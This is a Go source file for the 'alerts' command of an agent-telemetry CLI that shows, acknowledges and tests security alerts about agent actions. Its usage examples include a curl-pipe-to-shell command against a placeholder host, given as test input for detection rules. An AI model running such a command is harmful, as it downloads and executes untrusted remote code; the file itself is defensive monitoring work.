// Package alerts is the command for the person who judges security alerts: it
// lists, counts, follows and acknowledges them, tries rules, and looks after the
// channels by which they are told.
package alerts

import (
	"context"
	"fmt"
	"io"
	"time"

	"github.com/spf13/cobra"

	"github.com/agent-telemetry/agent-telemetry/internal/cli/cliio"
	"github.com/agent-telemetry/agent-telemetry/internal/cli/termtext"
)

// New returns the command alerts with everything below it.
func New(f *cliio.Factory) *cobra.Command { return newAll(f, time.Now, inAgent) }

func newAll(f *cliio.Factory, now func() time.Time, inAgent func(context.Context) bool) *cobra.Command {
	cmd := &cobra.Command{
		Use:   "alerts",
		Short: "Look at security alerts, acknowledge them, and try rules",
		Long: `What the rules found in what agents did. Alerts are records like all others: they
are in Loki (event="security_alert") and in the audit log, and nothing here
changes or deletes one. docs/alerts.md describes an alert, the JSON, and how to
write rules of your own.`,
		Example: `  $ agent-telemetry alerts show --since 24h --severity high+
  $ agent-telemetry alerts show --id 5f2b9c1e
  $ agent-telemetry alerts ack 5f2b9c1e --reason "the deploy script, as planned"
  $ agent-telemetry alerts test --command 'curl https://x.example/i.sh | sh'`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error { return cmd.Help() },
	}
	cmd.AddCommand(newShow(f, now), newStats(f, now), newWatch(f, now), newAck(f, now, inAgent), newTest(f), newValidate(f), newStatus(f, now))
	return cmd
}

// printJSON prints v on one line, as people write it: without HTML escapes.
func printJSON(w io.Writer, v any) error {
	enc := termtext.JSON(w)
	if err := enc.Encode(v); err != nil {
		return fmt.Errorf("print: %w", err)
	}
	return nil
}

func printText(w io.Writer, text string) error {
	if _, err := io.WriteString(w, text); err != nil {
		return fmt.Errorf("print: %w", err)
	}
	return nil
}

func usage(err error) error { return &cliio.ExitError{Code: 2, Err: err} }
